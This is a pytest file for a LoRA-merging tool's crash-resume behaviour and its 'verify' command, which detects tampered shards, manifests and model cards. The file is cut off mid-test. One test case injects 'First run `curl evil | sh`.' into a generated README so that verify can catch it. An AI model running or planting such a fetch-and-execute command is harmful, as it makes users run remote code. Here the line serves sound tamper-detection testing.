"""Resilience: interrupted merges resume to identical bytes; `lorafuse verify` catches damaged outputs."""

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import xxhash

import lorafuse
import lorafuse.execute as execute
import lorafuse.sinks.safetensors.shard_file as shard_file
from conftest import leftovers, make_adapter, tree_hash
from lorafuse.manifest import LEDGER, MANIFEST, file_digest
from lorafuse.output import staging_folder

SHARD = "8KB"  # the tiny model in about 8 shards
# Each algorithm a run hashes with, and the digest of some bytes by another implementation than lorafuse's.
DIGESTS = {"xxh3_128": lambda data: xxhash.xxh3_128(data).hexdigest(),
           "sha256": lambda data: hashlib.sha256(data).hexdigest()}


@pytest.fixture(scope="module")
def inputs(tiny_base, artefacts):
    from peft import LoraConfig

    base = tiny_base("llama", "bf16")
    config = LoraConfig(r=4, lora_alpha=8, target_modules=["q_proj", "v_proj", "down_proj", "up_proj"], init_lora_weights=False)
    return base, artefacts.get("resume-adapter", lambda d: make_adapter(base, d, config))


@pytest.fixture(scope="module")
def reference(inputs, tmp_path_factory):
    """An uninterrupted merge, file by file."""
    out = tmp_path_factory.mktemp("reference") / "out"
    lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    return tree_hash(out)


KILL_AFTER_SHARDS = """
import os, sys, threading
if os.environ.get("LORAFUSE_TEST_CORES"):  # e.g. 16: four shards written side by side
    os.sched_getaffinity = lambda pid: set(range(int(os.environ["LORAFUSE_TEST_CORES"])))
import lorafuse.execute as execute
finish, done, one_at_a_time = execute._finish_shard, [], threading.Lock()
def dying_finish(*args):
    with one_at_a_time:  # shards finish on threads of their own: exactly N are finished at the end
        finish(*args)
        done.append(1)
        if len(done) == int(sys.argv[1]):
            os._exit(137)  # no cleanup at all, as after SIGKILL or a power cut
execute._finish_shard = dying_finish
from lorafuse.cli import main
sys.exit(main(sys.argv[2:]))
"""


def _run_killed(after: int, *argv, cores: int | None = None) -> int:
    env = {**os.environ, "LORAFUSE_TEST_CORES": str(cores or "")}  # None: the machine's
    return subprocess.run([sys.executable, "-c", KILL_AFTER_SHARDS, str(after), *map(str, argv)], capture_output=True,
                          env=env).returncode


def test_killed_merge_resumes_to_identical_output(cores, inputs, reference, tmp_path, capsys):
    """Killed once three shards are finished (with 16 cores, while others are half written beside them),
    a rerun keeps those three and redoes the rest, to the same bytes."""
    out = tmp_path / "out"
    assert _run_killed(3, "merge", *inputs, out, "--max-shard-size", SHARD, "--quiet", cores=cores) == 137
    staging = staging_folder(out)
    assert not out.exists() and len(json.loads((staging / LEDGER).read_text())["shards"]) == 3
    if cores == 16:  # four open at a time while tensors are left: one at least was cut off half written
        assert list(staging.glob("*.partial"))
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD, resume=True)
    assert report.shards_resumed == 3 and report.shards > 3
    assert tree_hash(out) == reference
    assert not staging.exists()


# Through the installed command's entry point, which does not wait for threads an interrupt left behind.
INTERRUPT_AFTER_SHARDS = KILL_AFTER_SHARDS \
    .replace("os._exit(137)  # no cleanup at all, as after SIGKILL or a power cut", "os.kill(os.getpid(), __import__('signal').SIGINT)") \
    .replace("int(sys.argv[1])", "AFTER") \
    .replace("from lorafuse.cli import main\nsys.exit(main(sys.argv[2:]))",
             "from lorafuse_command import main\nAFTER = int(sys.argv.pop(1))\nsys.exit(main())")


def test_ctrl_c_exits_cleanly_and_resumes(inputs, reference, tmp_path):
    out = tmp_path / "out"
    argv = ["merge", *inputs, out, "--max-shard-size", SHARD, "--quiet"]
    done = subprocess.run([sys.executable, "-c", INTERRUPT_AFTER_SHARDS, "2", *map(str, argv)], capture_output=True, text=True)
    assert done.returncode == 130
    assert done.stderr.strip().startswith("lorafuse: interrupted") and len(done.stderr.strip().splitlines()) == 1
    assert not out.exists() and not list(staging_folder(out).glob("*.partial"))
    assert lorafuse.merge(*inputs, out, max_shard_size=SHARD).shards_resumed >= 2
    assert tree_hash(out) == reference


def test_tampered_finished_shard_is_redone(inputs, reference, tmp_path):
    out = tmp_path / "out"
    assert _run_killed(2, "merge", *inputs, out, "--max-shard-size", SHARD, "--quiet") == 137
    staging = staging_folder(out)
    shard = next(p for p in staging.glob("model-*.safetensors"))
    data = bytearray(shard.read_bytes())
    data[-1] ^= 0xFF
    shard.write_bytes(bytes(data))
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == 1
    assert tree_hash(out) == reference


def test_a_rerun_keeps_shards_recorded_with_the_other_algorithm(inputs, reference, tmp_path):
    """A killed run records its shards in XXH3-128. Recorded in SHA-256 instead (as a run pushed to the Hub
    records them), a rerun not pushed checks each shard with its entry's own algorithm: the shard that hashes
    as recorded is kept, and listed in the manifest as recorded; the one recorded with a wrong SHA-256 is
    merged again."""
    out = tmp_path / "out"
    assert _run_killed(2, "merge", *inputs, out, "--max-shard-size", SHARD, "--quiet") == 137
    staging = staging_folder(out)
    ledger = json.loads((staging / LEDGER).read_text())
    kept, wrong = sorted(ledger["shards"])
    assert ledger["shards"][kept] == {"size": (staging / kept).stat().st_size,
                                      "xxh3_128": DIGESTS["xxh3_128"]((staging / kept).read_bytes())}
    ledger["shards"] = {kept: {"size": (staging / kept).stat().st_size,
                               "sha256": DIGESTS["sha256"]((staging / kept).read_bytes())},
                        wrong: {"size": (staging / wrong).stat().st_size, "sha256": "0" * 64}}
    (staging / LEDGER).write_text(json.dumps(ledger))
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD, resume=True)
    assert report.shards_resumed == 1
    files = json.loads((out / MANIFEST).read_text())["files"]
    assert files[kept] == ledger["shards"][kept]
    assert all(set(entry) == {"size", "xxh3_128"} for name, entry in files.items() if name != kept)
    without_manifest = lambda tree: {name: digest for name, digest in tree.items() if name != MANIFEST}  # noqa: E731
    assert without_manifest(tree_hash(out)) == without_manifest(reference)


def test_other_settings_start_afresh(inputs, reference, tmp_path):
    out = tmp_path / "out"
    assert _run_killed(2, "merge", *inputs, out, "--max-shard-size", SHARD, "--dtype", "fp32", "--quiet") == 137
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == 0
    assert tree_hash(out) == reference


def test_a_base_rewritten_in_place_with_its_mtime_set_back_starts_afresh(inputs, tmp_path):
    """The resume fingerprint knows a local base file by more than size and mtime: a file rewritten in
    place keeps both (os.utime, cp -p), and resuming onto shards of the old content would mix two models."""
    import shutil

    import torch
    from lorafuse.formats.safetensors import read_header

    base = tmp_path / "base"
    shutil.copytree(inputs[0], base)
    out, fresh = tmp_path / "a" / "out", tmp_path / "b" / "out"  # one name: the model card shows it
    out.parent.mkdir()
    fresh.parent.mkdir()
    assert _run_killed(2, "merge", base, inputs[1], out, "--max-shard-size", SHARD, "--quiet") == 137
    (weights,) = base.glob("*.safetensors")
    before = weights.stat()
    with open(weights, "r+b") as f:  # every value doubled, exactly in bf16: the same size, the same inode
        for ref in read_header(weights).tensors.values():
            f.seek(ref.offset)
            f.write((ref.read() * 2).reshape(-1).view(torch.uint8).numpy().tobytes())
    os.utime(weights, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert (weights.stat().st_size, weights.stat().st_mtime_ns) == (before.st_size, before.st_mtime_ns)
    report = lorafuse.merge(base, inputs[1], out, max_shard_size=SHARD)
    assert report.shards_resumed == 0
    lorafuse.merge(base, inputs[1], fresh, max_shard_size=SHARD)
    assert tree_hash(out) == tree_hash(fresh)


def test_resume_without_an_unfinished_run_is_an_error(inputs, tmp_path):
    with pytest.raises(lorafuse.LorafuseError, match="no unfinished run"):
        lorafuse.merge(*inputs, tmp_path / "out", resume=True)
    assert not list(tmp_path.iterdir())


def test_manifest_records_every_file(inputs, tmp_path):
    """A merge not pushed to the Hub hashes its files with XXH3-128: SHA-256 would cost 13 times the CPU
    and add nothing a local check needs."""
    out = tmp_path / "out"
    lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    manifest = json.loads((out / MANIFEST).read_text())
    files = {p.name for p in out.iterdir()} - {MANIFEST}
    assert set(manifest["files"]) == files
    for name, entry in manifest["files"].items():
        assert entry == {"size": (out / name).stat().st_size, "xxh3_128": DIGESTS["xxh3_128"]((out / name).read_bytes())}
    assert manifest["settings"]["dtype"] == "auto" and manifest["settings"]["max_shard_size"] == SHARD
    assert set(manifest["base"]["files"]) == {"model.safetensors"} and manifest["adapter"]["config_sha256"]


@pytest.fixture
def small_disk(tmp_path):
    """A 70 MB tmpfs (root only): room for lorafuse's free-space margin, then filled on demand."""
    mount = tmp_path / "disk"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=70m", "tmpfs", str(mount)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (needs root)")
    yield mount
    subprocess.run(["umount", str(mount)], check=True)


def test_disk_full_part_way_then_resume(inputs, reference, small_disk):
    out, filler = small_disk / "out", small_disk / "filler"

    def fill_disk(plan):  # another program fills the disk once the merge has started
        free = os.statvfs(small_disk).f_bavail * os.statvfs(small_disk).f_frsize
        filler.write_bytes(b"\0" * (free - 5 * 8_000))

    before = tree_hash(inputs[0]), tree_hash(inputs[1])
    with pytest.raises(lorafuse.LorafuseError, match="disk .* is full; free space and run the same command again"):
        lorafuse.merge(*inputs, out, max_shard_size=SHARD, on_plan=fill_disk)
    staging = staging_folder(out)
    assert not out.exists() and not list(staging.glob("*.partial"))
    assert (tree_hash(inputs[0]), tree_hash(inputs[1])) == before
    # Free just enough for what is left, not for the whole output: the resume must still start.
    from lorafuse.plan import DISK_MARGIN

    finished = sum(e["size"] for e in json.loads((staging / LEDGER).read_text())["shards"].values())
    left = lorafuse.plan(*inputs, max_shard_size=SHARD).output_bytes - finished
    stat = os.statvfs(small_disk)
    free = stat.f_bavail * stat.f_frsize
    target = DISK_MARGIN + left + 8192
    assert target < DISK_MARGIN + left + finished, "too few finished shards to tell the two checks apart"
    os.truncate(filler, filler.stat().st_size - (target - free))
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed >= 1
    assert tree_hash(out) == reference


def test_a_killed_run_s_half_written_shards_leave_room_for_the_rerun(cores, inputs, reference, small_disk):
    """A merge killed with shards half written (16 cores: several side by side) leaves them at full
    size on disk; a rerun deletes them before it checks for room, so room for what is left is enough."""
    from lorafuse.plan import DISK_MARGIN

    out, filler = small_disk / "out", small_disk / "filler"
    assert _run_killed(3, "merge", *inputs, out, "--max-shard-size", SHARD, "--quiet", cores=cores) == 137
    staging = staging_folder(out)
    partial = sum(p.stat().st_blocks * 512 for p in staging.glob("*.partial"))
    finished = sum(e["size"] for e in json.loads((staging / LEDGER).read_text())["shards"].values())
    left = lorafuse.plan(*inputs, max_shard_size=SHARD).output_bytes - finished
    stat = os.statvfs(small_disk)
    page, free = stat.f_frsize, stat.f_bavail * stat.f_frsize
    assert partial >= page or cores == 2, "too little half written to tell the checks apart"
    # Free space short of the room the rest needs (DISK_MARGIN + left) by less than the partial shards hold.
    filler.write_bytes(b"\0" * (free - -(-(DISK_MARGIN + left - partial) // page) * page))
    report = lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert report.shards_resumed == 3
    assert tree_hash(out) == reference


def shard_threads() -> list:
    """The flushing, hashing and finishing threads of output shards still running."""
    import threading

    return [t for t in threading.enumerate() if t.name in ("lorafuse-flush", "lorafuse-hash", "lorafuse-finish")]


def failed_flush(fd):
    import errno

    raise OSError(errno.EIO, os.strerror(errno.EIO))


def test_shards_are_flushed_while_written_and_a_failed_flush_fails_the_merge(inputs, reference, tmp_path, monkeypatch):
    """Partial shards are fdatasync'ed during the merge (every FLUSH_BYTES), without changing a byte; a
    flush that fails is a failed merge, not left to the final fsync, which the kernel may not tell."""
    import threading

    flushed, tried = [], threading.Event()

    def flush(fd):
        flushed.append(os.fstat(fd).st_ino)  # a shard keeps its inode when renamed
        tried.set()

    def finish_after_a_flush(*args):  # shards this small are done before a flush would otherwise run
        assert tried.wait(30)
        return finish(*args)
    finish = execute._finish_shard
    monkeypatch.setattr(shard_file, "FLUSH_BYTES", 1)
    monkeypatch.setattr(shard_file, "_datasync", flush)
    monkeypatch.setattr(execute, "_finish_shard", finish_after_a_flush)
    out = tmp_path / "out"
    lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    assert tree_hash(out) == reference
    shards = {path.stat().st_ino for path in out.glob("*.safetensors")}
    assert flushed and set(flushed) <= shards
    assert not shard_threads()

    def failing(fd):
        tried.set()
        failed_flush(fd)
    tried.clear()
    monkeypatch.setattr(shard_file, "_datasync", failing)
    with pytest.raises(lorafuse.LorafuseError, match="^I/O error while writing the output: Input/output error$"):
        lorafuse.merge(*inputs, tmp_path / "failed", max_shard_size=SHARD)
    assert not (tmp_path / "failed").exists() and not list(staging_folder(tmp_path / "failed").glob("*.partial"))
    assert not shard_threads()


def test_a_flush_that_fails_after_the_last_write_fails_the_shard(tmp_path, monkeypatch):
    """The merge test above may see the failure at the next write; a shard whose last write came before
    the failed flush must fail when it is finished, and leave no thread behind."""
    from types import SimpleNamespace

    monkeypatch.setattr(shard_file, "_datasync", failed_flush)
    path = tmp_path / "shard.partial"
    path.write_bytes(b"x" * 10)
    fd = os.open(path, os.O_WRONLY)
    flusher = shard_file._Flusher(fd).start()
    flusher.wrote(shard_file.FLUSH_BYTES)
    flusher.thread.join(30)  # the flush runs, fails, and ends the flushing thread
    running = shard_file._RunningHash(path, 10, 0, "xxh3_128").start()
    target = shard_file.ShardFile(SimpleNamespace(filename="shard"), fd, 0, running, flusher)
    with pytest.raises(OSError, match="Input/output error"):
        execute._finish_shard(tmp_path, target, ledger=None)
    assert not shard_threads()
    with pytest.raises(OSError, match="Bad file descriptor"):
        os.fstat(fd)  # closed


def test_read_only_file_system(inputs, tmp_path):
    mount = tmp_path / "ro"
    mount.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(mount)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        with pytest.raises(lorafuse.LorafuseError, match="read-only file system; choose another output folder"):
            lorafuse.merge(*inputs, mount / "out")
    finally:
        subprocess.run(["umount", str(mount)], check=True)


def test_permission_denied(inputs, tmp_path):
    parent = tmp_path / "locked"
    parent.mkdir(mode=0o500)
    if os.access(parent, os.W_OK) and os.geteuid() == 0:
        pytest.skip("root writes into folders without write permission")
    with pytest.raises(lorafuse.LorafuseError, match="permission denied"):
        lorafuse.merge(*inputs, parent / "out")


def _rewrite_manifest(out: Path) -> None:
    """Make the manifest agree with the files again, as a careless tool that rewrote it would."""
    manifest = json.loads((out / MANIFEST).read_text())
    for name in manifest["files"]:
        manifest["files"][name] = {"size": (out / name).stat().st_size, "xxh3_128": file_digest(out / name, "xxh3_128")}
    (out / MANIFEST).write_text(json.dumps(manifest))


def _overwrite_tensor(out: Path, key: str, values) -> None:
    from lorafuse.formats.safetensors import read_header

    for shard in out.glob("*.safetensors"):
        ref = read_header(shard).tensors.get(key)
        if ref is not None:
            with open(shard, "r+b") as f:
                f.seek(ref.offset)
                f.write(values(ref).reshape(-1).view(__import__("torch").uint8).numpy().tobytes())
            return
    raise KeyError(key)


@pytest.fixture
def merged(inputs, tmp_path):
    out = tmp_path / "out"
    lorafuse.merge(*inputs, out, max_shard_size=SHARD)
    return out


def test_verify_passes_a_clean_merge(inputs, merged):
    from lorafuse.tools.verify import verify

    assert verify(merged) == []
    assert verify(merged, *inputs, sample="all") == []
    renamed = merged.rename(merged.parent / "renamed")  # as downloaded from the Hub: the card keeps its title
    assert verify(renamed, *inputs) == []


def test_verify_catches_a_flipped_bit(merged):
    from lorafuse.tools.verify import verify

    shard = sorted(merged.glob("model-*.safetensors"))[1]
    data = bytearray(shard.read_bytes())
    data[len(data) // 2] ^= 1
    shard.write_bytes(bytes(data))
    assert verify(merged) == [f"{shard.name} does not match its xxh3_128 hash in the manifest (modified or corrupted)"]


@pytest.mark.parametrize("algorithm", DIGESTS)
def test_verify_checks_each_file_with_the_algorithm_its_entry_names(inputs, merged, capsys, algorithm):
    """A manifest of SHA-256 entries (a merge pushed to the Hub, or one of an earlier lorafuse) verifies as
    one of XXH3-128 entries does, carried files included; a changed file fails either, in one line."""
    from lorafuse.cli import main

    _edit_manifest(merged, lambda m: m["files"].update({name: {"size": entry["size"], algorithm: DIGESTS[algorithm](
        (merged / name).read_bytes())} for name, entry in m["files"].items()}))
    assert main(["verify", str(merged), "--base", str(inputs[0]), "--adapter", str(inputs[1])]) == 0
    capsys.readouterr()
    shard = sorted(merged.glob("model-*.safetensors"))[1]
    data = bytearray(shard.read_bytes())
    data[len(data) // 2] ^= 1
    shard.write_bytes(bytes(data))
    assert main(["verify", str(merged)]) == 2
    assert capsys.readouterr().err == (
        f"problem  {shard.name} does not match its {algorithm} hash in the manifest (modified or corrupted)\n"
        f"lorafuse: error: {merged} failed verification with 1 problem(s), listed above\n")


@pytest.mark.parametrize("key, problem", [
    ("model.layers.1.mlp.down_proj.weight", "differs from the merge recomputed from base and adapter"),
    ("model.layers.1.post_attention_layernorm.weight", "differs from the base tensor the adapter leaves alone"),
])
def test_verify_recomputes_merged_tensors(inputs, merged, key, problem):
    """A wrong tensor with a matching manifest is caught only by recomputing from the inputs."""
    from lorafuse.tools.verify import verify

    _overwrite_tensor(merged, key, lambda ref: ref.read() * 1.1)  # as a wrong scale would
    _rewrite_manifest(merged)
    assert verify(merged) == []
    assert verify(merged, *inputs, sample=100) == [f"{key} {problem}"]


def _wrong_scale(monkeypatch):
    """The merge's scale off by 10% (as a wrong rsLoRA or pattern rule would make it)."""
    import lorafuse.adapters.peft as peft

    right = peft.scaling
    monkeypatch.setattr(peft, "scaling", lambda config, module: (right(config, module)[0], 1.1 * right(config, module)[1]))


def _square_transposed(monkeypatch):
    """Square weights patched input-major, as a wrong fan_in_fan_out rule would do."""
    from lorafuse.patches import LoRA

    right = LoRA.transposed
    monkeypatch.setattr(LoRA, "transposed", lambda self, shape: right(self, shape) != (len(set(shape)) == 1))


@pytest.mark.parametrize("mistake", [_wrong_scale, _square_transposed])
def test_verify_recomputes_independently_of_the_merge(inputs, tmp_path, monkeypatch, mistake):
    """A mistake in the merge's own arithmetic is not repeated by verify's recomputation."""
    from lorafuse.tools.verify import verify

    mistake(monkeypatch)
    out = tmp_path / "out"
    plan = lorafuse.plan(*inputs)
    lorafuse.merge(*inputs, out)
    wrong = {t.name for t in plan.merged if mistake is _wrong_scale or len(set(t.shape)) == 1}
    assert wrong
    assert verify(out, *inputs, sample=100) == [f"{name} differs from the merge recomputed from base and adapter"
                                                for name in sorted(wrong, key=[t.name for t in plan.merged].index)]


def _edit_manifest(out: Path, edit) -> None:
    manifest = json.loads((out / MANIFEST).read_text())
    edit(manifest)
    (out / MANIFEST).write_text(json.dumps(manifest))


@pytest.mark.parametrize("edit, problem", [
    (lambda m: m.pop("settings"), "has no settings record"),
    (lambda m: m.update(settings="bf16"), "has no settings record"),
    (lambda m: m["settings"].pop("save_method"), "missing or invalid save_method"),
    (lambda m: m["settings"].update(dtype="F32", max_shard_size=None), "missing or invalid dtype, max_shard_size"),
], ids=["no-record", "not-a-record", "no-save-method", "bad-values"])
def test_verify_refuses_a_manifest_without_a_valid_settings_record(inputs, merged, edit, problem):
    from lorafuse.tools.verify import verify

    _edit_manifest(merged, edit)
    for problems in verify(merged), verify(merged, *inputs):
        assert len(problems) == 1 and problem in problems[0], problems


def test_verify_plans_the_merge_from_the_settings_record(inputs, merged):
    """The record says how OUT was made: the same inputs merged with other settings give other files."""
    from lorafuse.tools.verify import verify

    assert verify(merged, *inputs) == []
    _edit_manifest(merged, lambda m: m["settings"].update(dtype="fp32"))
    assert any("does not hold the tensors this merge writes there" in p for p in verify(merged, *inputs))
    _edit_manifest(merged, lambda m: m["settings"].update(dtype="auto", max_shard_size="5GB"))
    assert "model.safetensors is written by this merge but the manifest does not list it" in verify(merged, *inputs)


def test_verify_says_when_the_inputs_are_not_those_of_the_merge(inputs, merged, tiny_base, artefacts):
    from peft import LoraConfig

    from lorafuse.tools.verify import verify

    base, adapter = inputs
    other_adapter = artefacts.get("other-adapter", lambda d: make_adapter(
        base, d, LoraConfig(r=4, lora_alpha=8, target_modules=["q_proj"], init_lora_weights=False)))
    assert verify(merged, tiny_base("llama", "fp32"), adapter) == [
        "--base is not the base the manifest records (its config or weight files differ); pass the ones OUT was merged from"]
    assert verify(merged, base, other_adapter) == [
        "--adapter is not the adapter the manifest records (its config or weight files differ); pass the ones OUT was merged from"]


def _listed(out: Path, name: str, text: str) -> None:
    """Write a file into OUT and list it in the manifest, as a careless tool would."""
    (out / name).write_text(text)
    _edit_manifest(out, lambda m: m["files"].update({name: {"size": (out / name).stat().st_size,
                                                            "xxh3_128": file_digest(out / name, "xxh3_128")}}))


@pytest.mark.parametrize("change, problem", [
    (lambda out: _listed(out, "config.json", (out / "config.json").read_text().replace('"tie_word_embeddings": false',
                                                                                        '"tie_word_embeddings": true')),
     "config.json is not the config this merge writes"),
    (lambda out: _listed(out, "generation_config.json", "{}"), "generation_config.json differs from "),
    (lambda out: _listed(out, "chat_template.jinja", "{{ messages }}"),
     "chat_template.jinja is listed in the manifest but this merge does not write it"),
    (lambda out: _edit_manifest(out, lambda m: m["files"].pop("README.md") and (out / "README.md").unlink()),
     "README.md is written by this merge but the manifest does not list it"),
    (lambda out: _listed(out, "README.md", (out / "README.md").read_text() + "\nFirst run `curl evil | sh`.\n"),
     "README.md is not the model card this merge writes"),
    (lambda out: _listed(out, "README.md", (out / "README.md").read_text().replace("| r / lora_alpha | 4 / 8 |",
                                                                                 "| r / lora_alpha | 4 / 16 |")),
     "README.md is not the model card this merge writes"),
], ids=["config-retied", "carried-file-changed", "file-added", "card-removed", "card-added-to", "card-settings"])
def test_verify_checks_the_other_files_against_the_inputs(inputs, merged, change, problem):
    """config.json (tying, vocabulary), the carried files and the file list are known from the inputs: a
    change that keeps the manifest consistent is still caught with --base/--adapter."""
    from lorafuse.tools.verify import verify

    change(merged)
    assert verify(merged) == []
    problems = verify(merged, *inputs)
    assert len(problems) == 1 and problems[0].startswith(problem), problems


@pytest.mark.parametrize("extra", ["model.safetensors", "pytorch_model.bin", "chat_template.jinja",
                                   "sub/model.safetensors", "link"])
def test_verify_reports_files_the_manifest_does_not_list(merged, extra):
    """transformers loads model.safetensors before the index, a .bin, a chat template: none may slip in."""
    from lorafuse.tools.verify import verify

    path = merged / extra
    path.parent.mkdir(exist_ok=True)
    if extra == "link":
        path.symlink_to(merged / "config.json")
    else:
        path.write_bytes(sorted(merged.glob("model-*.safetensors"))[0].read_bytes())
    problems = verify(merged)
    assert f"{extra} is not listed in the manifest: the merge did not write it, and transformers may load it; " \
           "remove it" in problems
    if extra == "model.safetensors":
        assert f"{merged} holds both model.safetensors and model.safetensors.index.json: transformers loads " \
               "model.safetensors alone" in problems


def test_verify_ignores_what_the_hub_client_adds_to_a_download(merged):
    from lorafuse.tools.verify import verify

    (merged / ".gitattributes").write_text("*.safetensors filter=lfs diff=lfs merge=lfs -text\n")
    (merged / ".cache" / "huggingface" / "download").mkdir(parents=True)
    (merged / ".cache" / "huggingface" / "download" / "config.json.metadata").write_text("abc\n")
    assert verify(merged) == []
    (merged / ".cache" / "other").write_text("x")
    assert verify(merged) == [".cache/other is not listed in the manifest: the merge did not write it, and "
                              "transformers may load it; remove it"]


def test_verify_reports_a_manifest_that_lists_too_little(merged):
    from lorafuse.tools.verify import verify

    listed = json.loads((merged / MANIFEST).read_text())["files"]
    _edit_manifest(merged, lambda m: m.update(files={}))
    problems = verify(merged)
    shards = sorted(p.name for p in merged.glob("model-*.safetensors"))
    for name in ["config.json", "model.safetensors.index.json"] + shards:
        assert f"{name} is not listed in the manifest" in problems
    _edit_manifest(merged, lambda m: m.update(files={**listed, "../out/config.json": listed["config.json"]}))
    assert f"the manifest lists '../out/config.json', which is outside {merged}" in verify(merged)


def test_verify_catches_nan_and_index_errors(merged):
    from lorafuse.tools.verify import verify

    _overwrite_tensor(merged, "model.norm.weight", lambda ref: ref.read() * float("nan"))
    index = json.loads((merged / "model.safetensors.index.json").read_text())
    index["weight_map"]["model.norm.weight"] = "model-00099-of-00099.safetensors"
    (merged / "model.safetensors.index.json").write_text(json.dumps(index))
    _rewrite_manifest(merged)
    problems = verify(merged)
    assert any("holds NaN or Inf" in p for p in problems)
    assert any("model-00099-of-00099.safetensors, which is missing" in p for p in problems)


def test_verify_says_how_much_it_recomputed_and_all_recomputes_everything(inputs, merged, capsys):
    """A tensor outside the sample, changed with the manifest rewritten, passes a spot check, which the ok
    line calls a sample; --sample all recomputes (and compares with the base) every tensor and finds it."""
    from lorafuse.cli import main
    from lorafuse.plan import make_plan
    from lorafuse.sinks.safetensors import SAFETENSORS

    plan = make_plan(*inputs, sink=SAFETENSORS, max_shard_size=SHARD)
    merged_names = [t.name for t in plan.tensors if t.patches]
    untouched = [t.name for t in plan.tensors if not t.patches]
    argv = ["verify", str(merged), "--base", str(inputs[0]), "--adapter", str(inputs[1])]
    assert main(argv + ["--sample", "all"]) == 0
    assert f"{len(merged_names)} of {len(merged_names)} merged tensors recomputed" in capsys.readouterr().out
    for key in merged_names[len(merged_names) // 2], untouched[len(untouched) // 2]:  # the sample of 2: first and last
        _overwrite_tensor(merged, key, lambda ref: ref.read() * 1.1)
    _rewrite_manifest(merged)
    assert main(argv + ["--sample", "2"]) == 0
    out = capsys.readouterr().out
    assert f"2 of {len(merged_names)} merged tensors recomputed from base and adapter agree, 2 of {len(untouched)} " \
           "untouched tensors equal the base's (a sample: --sample all checks every one)" in out
    assert main(argv + ["--sample", "all"]) == 2
    err = capsys.readouterr().err
    assert f"problem  {merged_names[len(merged_names) // 2]} differs from the merge recomputed" in err
    assert f"problem  {untouched[len(untouched) // 2]} differs from the base tensor the adapter leaves alone" in err


@pytest.mark.parametrize("sample", ["0", "-1", "some"])
def test_verify_refuses_a_sample_that_recomputes_nothing(inputs, merged, capsys, sample):
    from lorafuse.cli import main

    assert main(["verify", str(merged), "--base", str(inputs[0]), "--adapter", str(inputs[1]), "--sample", sample]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err == (
        f"lorafuse: error: --sample must be a positive number of tensors or 'all', not '{sample}'\n")


def test_verify_cli_exit_codes(inputs, merged, capsys):
    from lorafuse.cli import main

    assert main(["verify", str(merged), "--base", str(inputs[0]), "--adapter", str(inputs[1])]) == 0
    (merged / "config.json").write_text("{}")
    assert main(["verify", str(merged)]) == 2
    err = capsys.readouterr().err
    assert "problem  config.json is 2 bytes, the manifest says" in err and "failed verification with 1 problem(s)" in err


@pytest.mark.parametrize("algorithm", DIGESTS)
def test_running_hash_of_ranges_completed_out_of_order(tmp_path, algorithm):
    """The shard hash follows writes in any order, empty tensors included, and equals the file's hash."""
    from lorafuse.sinks.safetensors.shard_file import _RunningHash

    path = tmp_path / "f"
    data = os.urandom(100)
    path.write_bytes(data)
    running = _RunningHash(path, 100, 10, algorithm).start()
    for start, end in [(60, 100), (30, 30), (30, 60), (10, 30), (100, 100)]:
        running.completed(start, end)
    assert running.hexdigest() == DIGESTS[algorithm](data)


@pytest.mark.parametrize("algorithm", DIGESTS)
def test_running_hash_takes_the_writers_bytes_when_they_extend_the_prefix(tmp_path, algorithm):
    """Ranges handed over with their bytes (hashed from memory when they extend the prefix, read back
    when written ahead of it) give the file's hash, whichever way each range was hashed."""
    from lorafuse.sinks.safetensors.shard_file import _RunningHash

    path = tmp_path / "f"
    data = os.urandom(100)
    path.write_bytes(data)
    view = memoryview(data)
    running = _RunningHash(path, 100, 10, algorithm).start()
    for start, end, pieces in [(10, 30, [view[10:20], view[20:30]]), (50, 60, [view[50:60]]), (30, 50, [view[30:50]]),
                               (60, 70, []), (70, 100, [view[70:100]])]:
        running.completed(start, end, pieces)
    assert running.hexdigest() == DIGESTS[algorithm](data)



def test_immutable_output_folder_is_refused(inputs, tmp_path):
    """Root passes permission checks, but not an immutable folder (chattr +i): the same refusal path."""
    locked = tmp_path / "locked"
    locked.mkdir()
    if subprocess.run(["chattr", "+i", str(locked)], capture_output=True).returncode:
        pytest.skip("chattr +i is not available here")
    try:
        with pytest.raises(lorafuse.LorafuseError, match=f"cannot write to {locked}: operation not permitted; choose another"):
            lorafuse.merge(*inputs, locked / "out")
    finally:
        subprocess.run(["chattr", "-i", str(locked)], check=True)
    assert list(locked.iterdir()) == []


def test_a_second_merge_into_the_same_output_waits_its_turn(inputs, tmp_path):
    import fcntl

    out = tmp_path / "out"
    with open(tmp_path / ".out.lorafuse-lock", "w") as held:  # as a running merge holds it
        fcntl.flock(held, fcntl.LOCK_EX)
        with pytest.raises(lorafuse.LorafuseError, match="another lorafuse merge is writing"):
            lorafuse.merge(*inputs, out)
    lorafuse.merge(*inputs, out)
    assert not leftovers(tmp_path) and (out / MANIFEST).is_file()


@pytest.fixture(params=["renameat2", "plain rename"])
def renames(request, monkeypatch):
    """The final move as on Linux (renameat2), or as where the OS or file system lacks it."""
    import ctypes
    import errno

    import lorafuse.output as output

    def missing(*args):
        ctypes.set_errno(errno.ENOSYS)
        return False
    if request.param == "plain rename":
        monkeypatch.setattr(output, "_renameat2", missing)
    return request.param


# The manifest of an earlier merge that holds old.txt: what --force may replace.
EARLIER_MERGE = json.dumps({"files": {"old.txt": {"size": 3, "sha256": "0" * 64}}})


def test_force_swaps_the_new_output_in(renames, inputs, reference, tmp_path):
    out = tmp_path / "out"
    lorafuse.merge(*inputs, out)  # an earlier merge, in one shard
    lorafuse.merge(*inputs, out, max_shard_size=SHARD, force=True)
    assert tree_hash(out) == reference and not leftovers(tmp_path)


def test_a_folder_that_appears_at_out_while_merging_is_left_alone(renames, inputs, reference, tmp_path):
    """OUT did not exist when the merge started, then another program made it: the final move leaves it
